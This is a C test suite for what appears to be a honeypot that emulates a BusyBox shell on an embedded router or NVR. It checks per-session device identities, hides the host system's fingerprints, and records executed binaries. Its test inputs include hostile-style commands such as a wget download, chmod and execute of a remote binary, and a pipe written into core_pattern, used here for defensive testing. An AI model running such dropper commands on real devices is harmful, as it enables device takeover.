/* What a session changes of its device is its own; what it says is the device's; what it runs is told. */
#include "shell/network.h"
#include "shell/settings.h"
#include "shell/test-machine.h"

#include <errno.h>
#include <string.h>

#define LENGTH(a) (sizeof(a) / sizeof(a)[0])

static struct machine *machine;
static struct shell_device *device;

struct world {
    struct shell *shell;
    struct buf out;
    unsigned runs;
    char path[64], words[64], bytes[64];
    bool made, foreign;
    const char *content; /* what a fetch finds */
};

static void output(void *context, int stream, const void *data, size_t n)
{
    struct world *w = context;
    (void)stream;
    buf_put(&w->out, data, n);
}

static void fetch(void *context, const struct shell_fetch *what, struct shell_fetched *ret)
{
    struct world *w = context;
    (void)what;
    *ret = (struct shell_fetched){ .answer = w->content ? FETCH_FOUND : FETCH_UNREACHABLE,
                                   .content = w->content,
                                   .n = w->content ? 24 : 0 };
}

static void ran(void *context, const struct shell_ran *what)
{
    struct world *w = context;
    w->runs++;
    w->made = what->made;
    w->foreign = what->foreign;
    snprintf(w->path, sizeof w->path, "%s", what->path);
    snprintf(w->words, sizeof w->words, "%s %s", what->argv[0], what->argv[1] ? what->argv[1] : "");
    size_t n = what->n < sizeof w->bytes ? what->n : sizeof w->bytes;
    memcpy(w->bytes, what->content, n);
}

static const struct shell_hook hook = { .output = output, .fetch = fetch, .ran = ran };

static void begin(struct world *w, const char *command, const char *content)
{
    *w = (struct world){ .content = content };
    buf_init(&w->out, 1 << 22);
    struct shell_options o = { .device = device,
                               .name = "sh",
                               .command = command,
                               .now = INT64_C(1700000000000000),
                               .seed = 1,
                               .limits = { .steps = 5000000, .output = 1 << 21 },
                               .hook = &hook, .context = w };
    assert_int_equal(shell_make(&w->shell, &o), 0);
}

static void run(struct world *w)
{
    int64_t now = INT64_C(1700000000000000);
    for (int turns = 0; turns < 10000; turns++) {
        enum shell_state state = shell_run(w->shell, 1 << 20, now);
        if (state == SHELL_ASLEEP)
            now = shell_wakes(w->shell);
        else if (state != SHELL_RUNNING)
            return;
    }
}

static void end(struct world *w)
{
    shell_free(w->shell);
    buf_release(&w->out);
}

static bool holds(const struct buf *b, const char *s)
{
    return b->len && memmem(b->data, b->len, s, strlen(s));
}

static void says(const char *command, const char *expected)
{
    struct world w;
    begin(&w, command, NULL);
    run(&w);
    if (w.out.len != strlen(expected) || (w.out.len && memcmp(w.out.data, expected, w.out.len)))
        fail_msg("%s\n--- said\n%.*s--- expected\n%s", command, (int)w.out.len, (char *)w.out.data,
                 expected);
    end(&w);
}

/* ---- Versions ---- */

/* clang-format off */
static const struct {
    const char *version, *command, *expected;
} shapes[] = {
    { "v1.01 (x)", "cd /nosuch", "sh: cd: line 1: can't cd to /nosuch\n" },
    { "v1.26.2 (x)", "cd /nosuch", "sh: cd: line 1: can't cd to /nosuch\n" },
    { "v1.28.4 (x)", "cd /nosuch", "sh: cd: line 1: can't cd to /nosuch: No such file or directory\n" },
    { "v1.35.0 (x)", "cd /nosuch", "sh: cd: line 0: can't cd to /nosuch: No such file or directory\n" },
    { "v1.12.1 (x)", "uname -a", "Linux router 2.6.36 #1 Thu Nov 6 14:07:12 CST 2014 mips unknown\n" },
    { "v1.16.1 (x)", "uname -a", "Linux router 2.6.36 #1 Thu Nov 6 14:07:12 CST 2014 mips GNU/Linux\n" },
    { "v1.1.3 (x)", "ps | head -n 1", "  PID  Uid     VmSize Stat Command\n" },
    { "v1.12.1 (x)", "ps | head -n 1", "  PID USER       VSZ STAT COMMAND\n" },
    { "v1.16.0 (x)", "free | sed 's/[0-9][0-9]*/n/g;s/   */ /g'",
      " total used free shared buffers\n Mem: n n n n n\n Swap: n n n\nTotal: n n n\n" },
    { "v1.23.2 (x)", "free | sed 's/[0-9][0-9]*/n/g;s/   */ /g'",
      " total used free shared buffers\nMem: n n n n n\n-/+ buffers: n n\nSwap: n n n\n" },
    { "v1.27.2 (x)", "free | sed 's/[0-9][0-9]*/n/g;s/   */ /g'",
      " total used free shared buffers cached\nMem: n n n n n n\n-/+ buffers/cache: n n\nSwap: n n n\n" },
    { "v1.30.1 (x)", "free | sed 's/[0-9][0-9]*/n/g;s/   */ /g'",
      " total used free shared buff/cache available\nMem: n n n n n n\nSwap: n n n\n" },
    { "v1.1.3 (x)", "busybox | sed -n '2,3p'", "\nUsage: busybox [function] [arguments]...\n" },
    { "v1.13.4 (x)", "busybox | sed -n '2p;6p;15p'",
      "Copyright (C) 1998-2008 Erik Andersen, Rob Landley, Denys Vlasenko\n"
      "Usage: busybox [function] [arguments]...\n" "Currently defined functions:\n" },
    { "v1.22.1 (x)", "busybox | sed -n '2p;6p;7p'",
      "BusyBox is copyrighted by many authors between 1998-2012.\n"
      "Usage: busybox [function [arguments]...]\n" "   or: busybox --list[-full]\n" },
};
/* clang-format on */

/* What a visitor can see of a version is as its banner says. */
static void a_version_says_what_it_did(void **state)
{
    (void)state;
    const char *version = machine->version;
    for (size_t i = 0; i < LENGTH(shapes); i++) {
        machine->version = shapes[i].version;
        says(shapes[i].command, shapes[i].expected);
    }
    machine->version = version;
}

/* ---- /proc/sys ---- */

static void exhausted(struct memory *m) __attribute__((noreturn));
static void exhausted(struct memory *m)
{
    (void)m;
    fail_msg("no memory");
    abort();
}

/* clang-format off */
static const struct {
    const char *name, *now, *written, *then; /* NULL: it is refused */
} settings[] = {
    { "sys/vm/swappiness", "60\n", "10\n", "10\n" },
    { "sys/vm/swappiness", "60\n", "  0x14  \n", "20\n" },
    { "sys/vm/swappiness", "60\n", "101\n", NULL },
    { "sys/vm/swappiness", "60\n", "-1\n", NULL },
    { "sys/vm/swappiness", "60\n", "ten\n", NULL },
    { "sys/vm/swappiness", "60\n", "10x\n", NULL },
    { "sys/vm/swappiness", "60\n", "\n", NULL },
    { "sys/vm/swappiness", "60\n", "", NULL },
    { "sys/vm/swappiness", "60\n", "99999999999999999999\n", NULL },
    { "sys/kernel/printk", "7\t4\t1\t7\n", "3\n", "3\t4\t1\t7\n" },
    { "sys/kernel/printk", "7\t4\t1\t7\n", "1 2 3 4 5\n", "1\t2\t3\t4\n" },
    { "sys/kernel/panic", "5\n", "-2147483648", "-2147483648\n" },
    { "sys/kernel/panic", "5\n", "2147483648", NULL },
    { "sys/kernel/core_pattern", "core\n", "|/tmp/x %p\nmore", "|/tmp/x %p\n" },
    { "sys/kernel/core_pattern", "core\n", "", "\n" },
    { "sys/kernel/domainname", "(none)\n", "0123456789012345678901234567890123456789012345678901234567890123456789",
      "0123456789012345678901234567890123456789012345678901234567890123\n" },
};
/* clang-format on */

static void what_is_written_is_read(void **state)
{
    (void)state;
    struct memory_account account = { .most = 1 << 20 };
    struct memory m = { .account = &account, .exhausted = exhausted };
    for (size_t i = 0; i < LENGTH(settings); i++) {
        struct setting *list = NULL;
        int e = setting_write(&list, &m, settings[i].name, settings[i].now, settings[i].written,
                              strlen(settings[i].written));
        assert_int_equal(e, settings[i].then ? 0 : -EINVAL);
        const char *value = setting_find(list, settings[i].name);
        if (settings[i].then)
            assert_string_equal(value, settings[i].then);
        else
            assert_null(value);
        memory_clear(&m);
    }
    assert_int_equal(account.used, 0);
}

/* However often it is written, it is held once. */
static void settings_do_not_grow(void **state)
{
    (void)state;
    struct world w;
    begin(&w,
          "i=0; while [ $i -lt 20000 ]; do i=$((i+1)); echo $i >/proc/sys/kernel/panic; echo "
          "$i >/proc/sys/kernel/hostname; ifconfig eth0 10.0.0.$((i%200)); ifconfig eth0:$i 10.1.1.1;"
          " route add -host 10.2.$((i/256%256)).$((i%256)) eth0; done 2>/dev/null",
          NULL);
    run(&w);
    assert_true(shell_memory(w.shell) < 65536);
    end(&w);
}

/* ---- Sessions ---- */

static void others_see_nothing(void **state)
{
    (void)state;
    static const char look[] =
        "hostname; uname -n; cat /proc/sys/kernel/hostname /proc/sys/vm/swappiness; ip addr show "
        "eth0 | grep inet; route -n | tail -n +3; grep -c . /proc/net/route";
    static const char as_it_is[] =
        "router\nrouter\nrouter\n60\n"
        "    inet 192.0.2.7/24 brd 192.0.2.255 scope global eth0\n"
        "0.0.0.0         192.0.2.1       0.0.0.0         UG    0      0        0 eth0\n"
        "192.0.2.0       0.0.0.0         255.255.255.0   U     0      0        0 eth0\n3\n";
    struct world w, other;
    says(look, as_it_is);
    begin(&w,
          "echo mine >/proc/sys/kernel/hostname; sysctl -qw vm.swappiness=7; ifconfig eth0 10.9.8.7 "
          "netmask 255.255.255.0; route del default; hostname; uname -n; cat /proc/sys/kernel/hostname "
          "/proc/sys/vm/swappiness; ip addr show eth0 | grep inet; route -n | tail -n +3; grep -c . "
          "/proc/net/route",
          NULL);
    run(&w);
    begin(&other, look, NULL);
    run(&other);
    buf_u8(&w.out, 0);
    buf_u8(&other.out, 0);
    assert_string_equal((char *)other.out.data, as_it_is);
    assert_string_equal((char *)w.out.data,
                        "mine\nmine\nmine\n7\n"
                        "    inet 10.9.8.7/24 brd 10.9.8.255 scope global eth0\n"
                        "10.9.8.0        0.0.0.0         255.255.255.0   U     0      0        0 eth0\n2\n");
    end(&w);
    end(&other);
}

static void errors_are_the_kernel_s(void **state)
{
    (void)state;
    says("echo x >/proc/sys/kernel/ostype; echo x >/proc/sys/nosuch; echo x >/proc/sys/vm/swappiness; "
         "echo $?; cat /proc/sys/vm/swappiness; sysctl -w vm.swappiness=999; sysctl -w kernel.ostype=x",
         "sh: can't create /proc/sys/kernel/ostype: Permission denied\n"
         "sh: can't create /proc/sys/nosuch: nonexistent directory\n"
         "sh: write error: Invalid argument\n1\n60\n"
         "sysctl: error setting key 'vm.swappiness': Invalid argument\n"
         "sysctl: error setting key 'kernel.ostype': Permission denied\n");
    says("ln -s busybox /bin/sh; su user -c 'echo x >/proc/sys/kernel/hostname; hostname y; ifconfig eth0 down; route del default'",
         "sh: can't create /proc/sys/kernel/hostname: Permission denied\n"
         "hostname: sethostname: Operation not permitted\n"
         "ifconfig: SIOCSIFFLAGS: Operation not permitted\n"
         "route: SIOCDELRT: Operation not permitted\n");
}

/* ---- One of many ---- */

static const struct shell_identity here = {
    .hostname = "NVR-3f2a",
    .mac = { 0x00, 0x00, 0x5e, 0xab, 0xcd, 0xef },
    .has_mac = true,
    .booted = INT64_C(1700000000000000) - INT64_C(200000) * 1000000,
    .pid_first = 4321,
    .secret = 7,
    .address = "203.0.113.77",
    .peer = "198.51.100.9",
    .port = 23,
    .peer_port = 40123,
};

static void begin_at(struct world *w, const char *command, const struct shell_identity *identity)
{
    *w = (struct world){ 0 };
    buf_init(&w->out, 1 << 22);
    struct shell_options o = { .device = device,
                               .name = "sh",
                               .command = command,
                               .now = INT64_C(1700000000000000),
                               .seed = 1,
                               .identity = identity,
                               .hook = &hook, .context = w };
    assert_int_equal(shell_make(&w->shell, &o), 0);
    run(w);
    buf_u8(&w->out, 0);
}

static void says_at(const char *command, const char *expected, const struct shell_identity *identity)
{
    struct world w;
    begin_at(&w, command, identity);
    if (strcmp((char *)w.out.data, expected) != 0)
        fail_msg("%s\n--- said\n%s--- expected\n%s", command, (char *)w.out.data, expected);
    end(&w);
}

/* clang-format off */
static const struct {
    const char *command, *says;
} identities[] = {
    { "hostname; uname -n; cat /proc/sys/kernel/hostname; echo $HOSTNAME", "NVR-3f2a\nNVR-3f2a\nNVR-3f2a\nNVR-3f2a\n" },
    { "set | grep ^HOSTNAME; export HOSTNAME; env | grep ^HOSTNAME; sh -c 'echo $HOSTNAME'; HOSTNAME=x; (echo $HOSTNAME)",
      "HOSTNAME='NVR-3f2a'\nHOSTNAME=NVR-3f2a\nNVR-3f2a\nx\n" },
    { "f() { local HOSTNAME; echo $HOSTNAME; }; f; unset HOSTNAME; echo $HOSTNAME; hostname mine; hostname", "\n\nmine\n" },
    { "cat /proc/uptime; grep btime /proc/stat; uptime | grep -c 'up 2 days,  7:33'", "200000.00 194000.00\nbtime 1699800000\n1\n" },
    { "echo $$; cut -d' ' -f1,22 /proc/$$/stat", "4321\n4321 20000000\n" },
    { "ifconfig eth0 | head -2",
      "eth0      Link encap:Ethernet  HWaddr 00:00:5E:AB:CD:EF  \n"
      "          inet addr:203.0.113.77  Bcast:203.0.113.255  Mask:255.255.255.0\n" },
    { "ip link show eth0 | grep ether; ip addr show eth0 | grep inet; ip route",
      "    link/ether 00:00:5e:ab:cd:ef brd ff:ff:ff:ff:ff:ff\n"
      "    inet 203.0.113.77/24 brd 203.0.113.255 scope global eth0\n"
      "default via 203.0.113.1 dev eth0 \n203.0.113.0/24 dev eth0 scope link  src 203.0.113.77 \n" },
    { "route -n | tail -n +3",
      "0.0.0.0         203.0.113.1     0.0.0.0         UG    0      0        0 eth0\n"
      "203.0.113.0     0.0.0.0         255.255.255.0   U     0      0        0 eth0\n" },
    { "netstat -tn | tail -n +3; grep -c :9CBB /proc/net/tcp",
      "tcp        0      0 203.0.113.77:23         198.51.100.9:40123      ESTABLISHED \n1\n" },
    { "ifconfig eth0 10.9.8.7 netmask 255.255.255.0; ifconfig eth0 | grep addr: ",
      "          inet addr:10.9.8.7  Bcast:10.9.8.255  Mask:255.255.255.0\n" },
};
/* clang-format on */

static void each_is_itself(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(identities); i++)
        says_at(identities[i].command, identities[i].says, &here);
    says_at("hostname; echo $HOSTNAME; netstat -tn | grep -c EST; ifconfig | grep -c 192.0.2.7",
            "router\nrouter\n0\n1\n", NULL);
}

static void addresses_are_hosts(void **state)
{
    (void)state;
    static const struct {
        const char *address, *routes;
    } at[] = {
        { "203.0.113.1", "203.0.113.254 255.255.255.0" },
        { "203.0.113.0", "203.0.112.1 255.255.254.0" },
        { "203.0.112.255", "203.0.112.1 255.255.254.0" },
        { "203.0.112.0", "203.0.96.1 255.255.224.0" },
        { "2001:db8::1", "192.0.2.1 255.255.255.0" },
    };
    for (size_t i = 0; i < LENGTH(at); i++) {
        struct shell_identity x = here;
        x.address = at[i].address;
        char expected[100];
        snprintf(expected, sizeof expected, "%s\n", at[i].routes);
        says_at("set -- $(route -n | tail -n +3); echo $2 ${11}", expected, &x);
    }
}

static void neighbours_are_its_own(void **state)
{
    (void)state;
    static const char arp[] = "IP address       HW type     Flags       HW address            Mask     Device\n"
                              "192.0.2.1        0x1         0x2         00:00:5e:00:53:01     *        eth0\n"
                              "192.0.2.7        0x1         0x2         00:00:5E:00:53:01     *        eth0\n";
    struct memory_account account = { .most = 1 << 20 };
    struct memory m = { .account = &account, .exhausted = exhausted };
    struct text same = text_of(&m), one = text_of(&m), other = text_of(&m);
    struct shell_identity x = here;
    network_say(machine, NULL, &same, arp);
    assert_string_equal(same.data, arp);
    network_say(machine, &here, &one, arp);
    x.mac[5]++;
    network_say(machine, &x, &other, arp);
    assert_int_equal(one.len, strlen(arp));
    assert_non_null(strstr(one.data, "\n203.0.113.1      0x1         0x2         00:00:5e:"));
    assert_non_null(strstr(one.data, "\n203.0.113.77     0x1         0x2         00:00:5e:ab:cd:ef     *        eth0\n"));
    assert_null(strstr(one.data, "00:00:5e:00:53:01"));
    assert_true(memcmp(one.data, other.data, strlen(arp) / 3 * 2) != 0);
    memory_clear(&m);
}

/* ---- What it says ---- */

static const char *const banned[] = { "Debian", "1.35.0", "deb12" };

static void is_the_device_s(const char *command)
{
    struct world w;
    begin(&w, command, NULL);
    run(&w);
    for (size_t i = 0; i < LENGTH(banned); i++) {
        if (holds(&w.out, banned[i]))
            fail_msg("%s says \"%s\":\n%.*s", command, banned[i], (int)w.out.len,
                     (char *)w.out.data);
    }
    end(&w);
}

static void no_word_is_the_reference_s(void **state)
{
    (void)state;
    static const char *const commands[] = {
        "busybox",
        "busybox --help",
        "busybox --list",
        "busybox --list-full",
        "busybox nosuch",
        "sh -i -c help",
        "ash --help",
        "vi -H",
        "dmesg",
        "uname -a; hostname; mount; env; set; id; ps; df; free; uptime; lsmod; netstat -an; top -bn1",
        "cat /proc/version /proc/cpuinfo /proc/cmdline /proc/mounts /proc/sys/kernel/*",
        "strings /bin/busybox; cat /bin/busybox /etc/*",
        "wget -O - http://192.0.2.1/; wget --version; curl --version; tftp; ftpget",
        "for f in $(find /proc -type f); do cat $f; done",
        "gzip -c /etc/passwd; echo | vi; awk --version; sed --version; date --version",
    };
    for (size_t i = 0; i < LENGTH(commands); i++)
        is_the_device_s(commands[i]);
}

static void no_usage_is_the_reference_s(void **state)
{
    (void)state;
    const struct applet *a;
    for (size_t i = 0; (a = applet_at(i)); i++) {
        char command[200];
        snprintf(command, sizeof command,
                 "%s --help; busybox %s --help; %s --nosuch-option </dev/null", a->name, a->name,
                 a->name);
        is_the_device_s(command);
    }
}

/* ---- What is run ---- */

#define OWN_CPU "\\177ELF\\1\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0\\10\\0"
#define OTHER_CPU "\\177ELF\\1\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0\\50\\0"

static const struct {
    const char *command, *content, *out;
    unsigned runs;
    const char *path, *words;
    bool made, foreign;
} runs[] = {
    { "cd /tmp; printf '" OWN_CPU "' >x; chmod +x x; ./x a b; echo $?", NULL, "0\n", 1, "./x", "./x a", true, false },
    { "cd /tmp; printf '" OTHER_CPU "' >x; chmod +x x; ./x a b; echo $?", NULL,
      "sh: ./x: Exec format error\n126\n", 1, "./x", "./x a", true, true },
    { "cd /tmp; echo -ne '" OWN_CPU "' >x; chmod 777 x; /tmp/x; echo $?", NULL, "0\n", 1, "/tmp/x", "/tmp/x ", true, false },
    { "cd /tmp; wget -q http://192.0.2.1/x; chmod +x x; ./x; echo $?",
      "\177ELF\1\1\1\0\0\0\0\0\0\0\0\0\2\0\10\0\0\0\0\0", "0\n", 1, "./x", "./x ", false, false },
    { "cd /tmp; wget -q http://192.0.2.1/x; chmod +x x; ./x; echo $?; (./x arm); ./x &\nwait",
      "\177ELF\1\1\1\0\0\0\0\0\0\0\0\0\2\0\50\0\0\0\0\0",
      "sh: ./x: Exec format error\n126\nsh: ./x: Exec format error\nsh: ./x: Exec format error\n", 3, "./x", "./x ", false, true },
    { "cd /tmp; printf '" OWN_CPU "' >x; ./x; echo $?", NULL, "sh: ./x: Permission denied\n126\n", 0, "", "", false, false },
    { "cp /bin/busybox /tmp/busybox; chmod +x /tmp/busybox; /tmp/busybox echo own", NULL, "own\n", 0, "", "", false, false },
};

static void what_is_run_is_told(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(runs); i++) {
        struct world w;
        begin(&w, runs[i].command, runs[i].content);
        run(&w);
        buf_u8(&w.out, 0);
        assert_string_equal((char *)w.out.data, runs[i].out);
        assert_int_equal(w.runs, runs[i].runs);
        assert_string_equal(w.path, runs[i].path);
        assert_string_equal(w.words, runs[i].words);
        assert_int_equal(w.made, runs[i].made);
        assert_int_equal(w.foreign, runs[i].foreign);
        if (w.runs)
            assert_memory_equal(w.bytes, "\177ELF", 4);
        end(&w);
    }
}

static int set_up(void **state)
{
    (void)state;
    static const char interfaces[] =
        "lo\t127.0.0.1\t\t255.0.0.0\t\tUP LOOPBACK RUNNING\t16436\t1\t0\t0\t0\t0\t0\n"
        "eth0\t192.0.2.7\t192.0.2.255\t255.255.255.0\t00:00:5E:00:53:01\tUP BROADCAST RUNNING "
        "MULTICAST\t1500\t1\t1000\t9\t999\t8\t888\n";
    static const char routes[] = "0.0.0.0\t192.0.2.1\t0.0.0.0\tUG\t0\teth0\n"
                                 "192.0.2.0\t0.0.0.0\t255.255.255.0\tU\t0\teth0\n";
    return test_machine_with(&machine, interfaces, routes) || shell_device_make(&device, machine);
}

static int tear_down(void **state)
{
    (void)state;
    shell_device_free(device);
    machine_free(machine);
    return 0;
}

/* The table of applets is searched by halves: one out of order would not be found. */
static void applets_are_found(void **state)
{
    const struct applet *a;
    (void)state;
    for (size_t i = 0; (a = applet_at(i)); i++)
        if (a->name && !applet_find(a->name))
            fail_msg("%s is out of order", a->name);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_is_written_is_read),    cmocka_unit_test(settings_do_not_grow),
        cmocka_unit_test(others_see_nothing),         cmocka_unit_test(errors_are_the_kernel_s),
        cmocka_unit_test(each_is_itself),             cmocka_unit_test(addresses_are_hosts),
        cmocka_unit_test(neighbours_are_its_own),
        cmocka_unit_test(no_word_is_the_reference_s), cmocka_unit_test(no_usage_is_the_reference_s),
        cmocka_unit_test(what_is_run_is_told),        cmocka_unit_test(applets_are_found),
        cmocka_unit_test(a_version_says_what_it_did),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
